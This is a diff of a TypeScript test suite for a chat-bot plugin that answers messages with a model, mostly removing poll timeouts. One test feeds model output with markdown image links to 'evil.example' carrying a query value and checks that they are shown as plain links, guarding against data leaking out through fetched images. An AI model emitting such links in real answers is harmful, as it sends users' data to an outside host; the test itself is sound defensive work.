@@ -70,14 +70,14 @@ test('a wrong token is reported in plain words, and a right one fixes it', async
 
 test('a message to the bot is answered there, in a conversation of its sender’s that shows its channel', async () => {
   expect(await service.deliver(service.message('When does the shop close?'))).toBe(200);
-  await expect.poll(told, { timeout: 10_000 }).toHaveLength(1);
+  await expect.poll(told).toHaveLength(1);
   expect(told()[0]).toContain('Until nine');
   expect(service.sent[0]?.chatId).toBe('77');
   await expect
     .poll(async () => (await owner.plugin.listMessages({ id: pluginId })).messages)
     .toMatchObject([{ personName: 'Ada', text: 'When does the shop close?', state: 'answered' }]);
   await service.deliver(service.message('And tomorrow?'));
-  await expect.poll(told, { timeout: 10_000 }).toHaveLength(2);
+  await expect.poll(told).toHaveLength(2);
   const { messages: both } = await owner.plugin.listMessages({ id: pluginId });
   expect(new Set(both.map(({ conversationId }) => conversationId)).size).toBe(1);
 });
@@ -86,7 +86,7 @@ test('an answer shows no image and no preview, so nobody fetches what a model wa
   const pieces = ['![Look](https://evil.example/a?told=4711) !![and](https://evil.example/b) `![code](c)`'];
   provider.script = { pieces };
   await service.deliver(service.message('When does the shop close?'));
-  await expect.poll(told, { timeout: 10_000 }).toHaveLength(1);
+  await expect.poll(told).toHaveLength(1);
   provider.script = { pieces: ['Until ', 'nine ', '[1].'] };
   expect(told()[0]).toContain('[Look](https://evil.example/a?told=4711) [and](https://evil.example/b)');
   expect(told()[0]).toContain('`![code](c)`');
@@ -97,19 +97,15 @@ test.each([
   ['pictures in pictures', `${'!['.repeat(5000)}x${'](u)'.repeat(5000)}`],
   ['quotes in quotes', '>'.repeat(30_000)],
   ['marks in marks', `${'*_'.repeat(8000)}a${'_*'.repeat(8000)}`],
-])(
-  '%s, in a message or an answer, block nobody',
-  async (_what, slow) => {
-    provider.script = { pieces: [slow] };
-    const began = performance.now();
-    expect(await service.deliver(service.message(slow))).toBe(200);
-    await expect.poll(() => told().length, { timeout: 10_000 }).toBeGreaterThan(1);
-    provider.script = { pieces: ['Until ', 'nine ', '[1].'] };
-    expect(performance.now() - began).toBeLessThan(15_000);
-    expect((await owner.plugin.listMessages({ id: pluginId })).messages[0]?.error).toBeNull();
-  },
-  20_000,
-);
+])('%s, in a message or an answer, block nobody', async (_what, slow) => {
+  provider.script = { pieces: [slow] };
+  const began = performance.now();
+  expect(await service.deliver(service.message(slow))).toBe(200);
+  await expect.poll(() => told().length).toBeGreaterThan(1);
+  provider.script = { pieces: ['Until ', 'nine ', '[1].'] };
+  expect(performance.now() - began).toBeLessThan(60_000);
+  expect((await owner.plugin.listMessages({ id: pluginId })).messages[0]?.error).toBeNull();
+});
 
 test('an update delivered again is answered once, a forged one not at all', async () => {
   const update = service.message('When does the shop close?');
@@ -117,7 +113,7 @@ test('an update delivered again is answered once, a forged one not at all', asyn
   expect(statuses).toEqual([200, 200, 200, 200, 200]);
   expect(await service.deliver(service.message('Hello?'), { secret: 'forged' })).toBe(401);
   expect(await service.deliver(service.message('Hello?'), { secret: '' })).toBe(401);
-  await expect.poll(told, { timeout: 10_000 }).toHaveLength(1);
+  await expect.poll(told).toHaveLength(1);
   await service.deliver(update);
   expect((await owner.plugin.listMessages({ id: pluginId })).messages).toHaveLength(1);
 });
@@ -135,7 +131,7 @@ test('a paused bot stores nothing, and a removed one does not exist', async () =
 test('in a group it answers whoever mentions it, and continues with them alone', async () => {
   await service.deliver(service.groupMessage('What a nice day'));
   await service.deliver(service.groupMessage('@helper_bot when does the shop close?'));
-  await expect.poll(told, { timeout: 10_000 }).toHaveLength(1);
+  await expect.poll(told).toHaveLength(1);
   expect(service.sent[0]?.chatId).toBe('-100');
   await service.deliver(service.groupMessage('Not you', { id: 78, first_name: 'Bob' }));
   const { messages } = await owner.plugin.listMessages({ id: pluginId });
@@ -157,7 +153,7 @@ test('a long answer is split into parts that the service accepts', async () => {
   const words = Array.from({ length: 1500 }, (_, index) => `word${index}${index % 50 === 49 ? '\n\n' : ' '}`);
   provider.script = { pieces: words };
   await service.deliver(service.message('Tell me everything'));
-  await expect.poll(() => told().join(' '), { timeout: 10_000 }).toContain('word1499');
+  await expect.poll(() => told().join(' ')).toContain('word1499');
   provider.script = { pieces: ['Until ', 'nine ', '[1].'] };
   expect(service.sent.length).toBeGreaterThan(2);
   for (const { text } of service.sent) expect(text.length).toBeLessThanOrEqual(4096);
@@ -168,7 +164,7 @@ async function leaveUnanswered(question = 'When does the shop close?'): Promise<
   service.failing = { status: 500, times: 1000 };
   await service.deliver(service.message(question));
   const lastError = async () => (await owner.plugin.listMessages({ id: pluginId })).messages[0]?.error;
-  await expect.poll(lastError, { timeout: 10_000 }).toBeTypeOf('string');
+  await expect.poll(lastError).toBeTypeOf('string');
 }
 
 /** Unfinished attempts: as long as there is one, it could be mistaken for the effect of resuming. */
@@ -186,7 +182,7 @@ test('messages that waited while a plugin was paused are answered when it resume
   await expect.poll(queued, { timeout: 60_000 }).toBe(0);
   expect(told()).toEqual([]);
   await owner.plugin.update({ id: pluginId, status: 'active' });
-  await expect.poll(told, { timeout: 10_000 }).toHaveLength(1);
+  await expect.poll(told).toHaveLength(1);
 });
 
 test('messages that waited while an agent was in the trash are answered after its restore', async () => {
@@ -196,7 +192,7 @@ test('messages that waited while an agent was in the trash are answered after it
   await expect.poll(queued, { timeout: 60_000 }).toBe(0);
   expect(told()).toEqual([]);
   await owner.agentKeeping.restore({ id: agentId, organizationId });
-  await expect.poll(told, { timeout: 10_000 }).toHaveLength(1);
+  await expect.poll(told).toHaveLength(1);
 });
 
 test('messages that waited for days are answered, and their senders remembered even if nothing was said yet', async () => {
@@ -212,7 +208,7 @@ test('messages that waited for days are answered, and their senders remembered e
   };
   expect(await forget()).toBe(1);
   await owner.plugin.update({ id: pluginId, status: 'active' });
-  await expect.poll(told, { timeout: 10_000 }).toHaveLength(1);
+  await expect.poll(told).toHaveLength(1);
   // Nothing remains of a person who was only greeted.
   await expect.poll(forget).toBe(0);
 });
